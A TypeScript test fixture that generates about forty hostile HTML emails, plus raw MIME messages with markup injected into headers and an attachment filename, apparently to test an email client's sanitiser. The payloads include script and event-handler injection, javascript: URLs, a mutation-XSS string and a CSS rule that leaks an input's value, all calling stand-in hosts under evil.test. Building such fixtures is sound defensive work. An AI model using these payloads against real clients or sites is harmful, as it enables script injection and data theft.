/** Emails whose HTML tries to run a script, to load something from another server, or to leave the page. */

export type HostileEmail = { name: string; html: string };

/** Returns the host name that only this email uses. A network log with the name shows that the email sent a request. */
export const hostOf = (index: number): string => `email-${index}.evil.test`;

const script = (url: string): string =>
  `document.documentElement.dataset.ran='yes';new Image().src='${url}';try{top.document.title='ran'}catch{}`;

/** The HTML of each attack. `URL` is an address of another server. The test clicks on `Click`. */
const templates: Record<string, string> = {
  "a script": "<script>SCRIPT</script>",
  "a script of another server": "<script src=URL></script>",
  "a module": '<script type="module" src="URL"></script>',
  "an image that fails": '<img src="data:," onerror="SCRIPT">',
  "an SVG that loads": '<svg onload="SCRIPT"></svg>',
  "a body that loads": '<body onload="SCRIPT">Hello</body>',
  "details that open": '<details open ontoggle="SCRIPT">Hello</details>',
  "an element that takes the focus": '<input autofocus onfocus="SCRIPT">',
  "a frame with a document": '<iframe srcdoc="<script>SCRIPT</script>"></iframe>',
  "a frame of another server": '<iframe src="URL"></iframe>',
  "a frame with a script as its address": '<iframe src="javascript:SCRIPT"></iframe>',
  "a set of frames": '<frameset><frame src="URL"></frameset>',
  "an object": '<object data="URL"></object>',
  "an embedded file": '<embed src="URL">',
  "an image": '<img src="URL">',
  "an image with a set of sources": '<img srcset="URL 1x">',
  "a picture": '<picture><source srcset="URL"><img alt="none"></picture>',
  "an image of an SVG": '<svg><image href="URL" width="9" height="9"></image></svg>',
  "a poster of a video": '<video poster="URL"></video>',
  "an audio": '<audio src="URL" preload="auto"></audio>',
  "a background of a table": '<table background="URL"><tr><td>Hello</td></tr></table>',
  "a style sheet of another server": '<link rel="stylesheet" href="URL">',
  "an import of styles": '<style>@import "URL";</style>Hello',
  "a background in a style": '<p style="background: url(URL)">Hello</p>',
  "a font": "<style>@font-face { font-family: f; src: url(URL) } p { font-family: f }</style><p>Hello</p>",
  "a style that reads a value": '<style>[value^="s"] { background: url(URL) }</style><input value="secret">',
  "a shadow root": '<div><template shadowrootmode="open"><img src="URL"></template></div>',
  "HTML that changes when it is parsed twice":
    '<form><math><mtext></form><form><mglyph><style></math><img src="data:," onerror="SCRIPT"><img src="URL">',
  "a base for relative addresses": '<base href="URL/"><img src="image.png">',
  "a redirect": '<meta http-equiv="refresh" content="0; url=URL">Hello',
  "a form": '<form action="URL"><button>Click</button></form>',
  "a link": '<a href="URL">Click</a>',
  "a link that replaces the page": '<a href="URL" target="_top">Click</a>',
  "a link that opens a window": '<a href="URL" target="_blank">Click</a>',
  "a link that reports its click": '<a href="#top" ping="URL" target="_self">Click</a>',
  "a link of an SVG": '<svg width="90" height="30"><a href="URL"><text y="20">Click</text></a></svg>',
  "a link of an older SVG": '<svg width="90" height="30"><a xlink:href="URL"><text y="20">Click</text></a></svg>',
  "a link that an animation sets":
    '<svg width="90" height="30"><a><set attributeName="href" to="URL"/><text y="20">Click</text></a></svg>',
  "a link with a relative address that an animation sets":
    '<base href="URL/"><svg width="90" height="30"><a><set attributeName="href" to="x"/>' +
    '<animate attributeName="href" values="x" fill="freeze"/><text y="20">Click</text></a></svg>',
  "a link with a script as its address": '<a href="javascript:SCRIPT" target="_self">Click</a>',
};

export const hostileEmails: HostileEmail[] = Object.entries(templates).map(([name, template], index) => {
  const url = `http://${hostOf(index)}/x`;
  return { name, html: template.replaceAll("SCRIPT", script(url)).replaceAll("URL", url) };
});

/** Returns the raw email. Its text fields are hostile, too. */
export const rawEmail = ({ html }: HostileEmail, index: number): string => {
  const markup = `<img src='data:,' onerror="${script(`http://${hostOf(index)}/y`)}">`;
  const attachment = `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(markup)}`;
  const head = `Message-ID: <hostile-${index}@example.com>\r\nFrom: mallory@example.com\r\nTo: ada@example.org`;
  return [
    `${head}\r\nSubject: Hostile ${index} ${markup}\r\nX-Markup: ${markup}`,
    "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n",
    "--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n",
    Buffer.from(html).toString("base64"),
    `--b\r\nContent-Type: text/html\r\n${attachment}\r\n\r\n${markup}\r\n--b--\r\n`,
  ].join("\r\n");
};
